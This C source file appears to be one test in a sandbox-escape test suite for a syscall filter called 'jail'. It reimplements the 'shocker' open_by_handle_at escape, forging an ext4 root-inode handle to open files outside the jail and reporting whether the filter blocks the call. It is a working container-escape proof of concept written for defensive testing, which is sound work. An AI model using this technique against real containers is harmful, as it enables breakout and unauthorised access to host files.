/*
 * handle — class 3: open_by_handle_at, the "shocker" escape.
 *
 *   handle FILE
 *
 * name_to_handle_at (allowed: it only names what the caller can reach)
 * gives FILE's handle; open_by_handle_at then opens by handle, bypassing
 * path lookup and with it the jail's root.  The attack also forges the
 * handle of the filesystem's root directory (ext4's inode 2), which is
 * what shocker did.  jail's baseline answers open_by_handle_at with EPERM
 * whatever the arguments: with mount fd -1 the kernel itself would say
 * EBADF, so that call tells the filter's verdict from the kernel's.
 */
#include <sys/stat.h>

#include "attack.h"

struct fh {
	struct file_handle h;
	unsigned char bytes[MAX_HANDLE_SZ];
};

static int try_handle(const char *what, int mfd, struct fh *fh)
{
	int fd = open_by_handle_at(mfd, &fh->h, O_RDONLY | O_CLOEXEC);

	if (fd >= 0) {
		struct stat st;

		fstat(fd, &st);
		say("open_by_handle_at(%s): opened inode %lu: ESCAPED", what, (unsigned long)st.st_ino);
		close(fd);
		return ESCAPED;
	}
	return verdict(what, -1, EPERM);
}

int main(int argc, char **argv)
{
	struct fh fh = { .h.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, mfd, r;

	attack_name = "handle";
	if (argc != 2)
		usage("FILE");
	mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0) {
		say("open /: %s", strerror(errno));
		return CANNOT;
	}
	if (name_to_handle_at(AT_FDCWD, argv[1], &fh.h, &mount_id, 0) == 0) {
		say("name_to_handle_at %s: type %d, %u bytes", argv[1], fh.h.handle_type, fh.h.handle_bytes);
		r = try_handle("FILE's handle", mfd, &fh);
		/* FILE's own mount, where the handle is certainly valid */
		int ffd = open(argv[1], O_RDONLY | O_CLOEXEC);
		if (ffd >= 0) {
			r = worst(r, try_handle("FILE's handle on its mount", ffd, &fh));
			close(ffd);
		}
	} else {
		say("name_to_handle_at %s: %s", argv[1], strerror(errno));
		r = STOPPED;
	}
	/* shocker: FILEID_INO32_GEN {inode 2, generation 0} is ext4's root */
	memset(&fh, 0, sizeof(fh));
	fh.h.handle_bytes = 8;
	fh.h.handle_type = 1;
	fh.bytes[0] = 2;
	r = worst(r, try_handle("forged root handle", mfd, &fh));
	/* the kernel alone answers EBADF here; the baseline EPERM */
	r = worst(r, try_handle("mount fd -1", -1, &fh));
	return r;
}
